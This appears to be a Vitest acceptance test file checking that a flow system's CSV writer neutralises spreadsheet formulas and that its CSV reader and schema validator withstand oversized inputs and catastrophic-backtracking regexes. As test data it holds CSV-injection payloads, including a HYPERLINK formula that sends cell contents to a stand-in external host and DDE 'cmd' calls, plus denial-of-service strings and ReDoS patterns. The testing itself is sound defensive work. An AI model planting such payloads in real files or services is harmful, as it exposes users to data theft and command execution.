import { expect, test } from 'vitest'
import { type Answer, atOnce, type FlowFile, flowOf, unharmed, useInstallation } from './installation.ts'

// Acceptance case 38. Patterns in expressions and mappings: `expression-bombs.test.ts`.
const replying = { 'tra-loi': { use: 'http-reply@1' } }
const checking = (id: string, pattern: string): FlowFile =>
  flowOf(
    id,
    { accepts: 'json' },
    {
      kiem: {
        use: 'validate@1',
        settings: {
          schema: JSON.stringify({ type: 'object', properties: { chu: { type: 'string', pattern } } }),
        },
        to: { out: ['tra-loi'], invalid: ['tra-loi'] },
      },
      ...replying,
    },
  )

const system = useInstallation(async (it) => {
  await it.publish(flowOf('ghi', { accepts: 'json' }, { ghi: { use: 'csv-write@1', settings: {} }, ...replying }))
  await it.publish(flowOf('doc', { accepts: 'json' }, { doc: { use: 'csv-read@1', settings: {} }, ...replying }))
})

const read = (content: string): Promise<Answer> => system().send('/doc', { body: { content } })

const formulas = [
  '=1+1',
  '=HYPERLINK("http://ngoai.example/?"&A1,"Xem hồ sơ")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
]

test.each(formulas)('the cell %j is text to a spreadsheet, and read again what it was', async (cell) => {
  const rows = [{ 'Số hồ sơ': '00123', 'Ghi chú': cell }]
  const { body } = await system().send('/ghi', { body: { rows } })
  expect(body).not.toMatch(/(?:^|[,;\n"])\s*[=+@＝]/)
  expect((await read(body)).body.rows).toMatchObject([{ 'Số hồ sơ': '00123', 'Ghi chú': cell.trim() }])
})

test('a quote that is never closed is refused, however much comes behind it', async () => {
  for (const size of [10, 1_000_000, 5_000_000]) {
    const answer = await read(`a,b\n1,"${'x,y\n'.repeat(size / 4)}`)
    expect(answer).toMatchObject({ status: 422, body: { code: 'table.unreadable' } })
    expect(answer.text.length).toBeLessThan(5000)
    atOnce(answer.ms, 3000)
    await unharmed(system())
  }
})

test('a table of nothing but separators, lines or quotes ends in an answer', async () => {
  for (const content of [
    ','.repeat(2_000_000),
    '\n'.repeat(2_000_000),
    '"'.repeat(2_000_001),
    '""\n'.repeat(500_000),
  ]) {
    const answer = await read(`a,b\n${content}`)
    if (answer.status !== 200) expect(answer.body.code).toMatch(/^table\.(unreadable|too-large)$/)
    atOnce(answer.ms, 8000)
    await unharmed(system())
  }
})

test.each(['(a+)+$', '^(a|aa)+$', '^(([a-z])+.)+[A-Z]([a-z])+$', '(.*a){25}'])(
  'the pattern %s of a schema is not published, or judged soon',
  async (pattern) => {
    const flow = checking('khuon', pattern)
    await system().call('PUT', '/flows/khuon', { flow })
    const published = await system().call('POST', '/flows/khuon/publish', {})
    if (published.status !== 200)
      return expect(published).toMatchObject({ status: 422, body: { code: 'flow.has-errors' } })
    const answer = await system().send('/khuon', { body: { chu: `${'a'.repeat(50_000)}!` } })
    expect([200, 422]).toContain(answer.status)
    atOnce(answer.ms, 3000)
    await unharmed(system())
  },
)
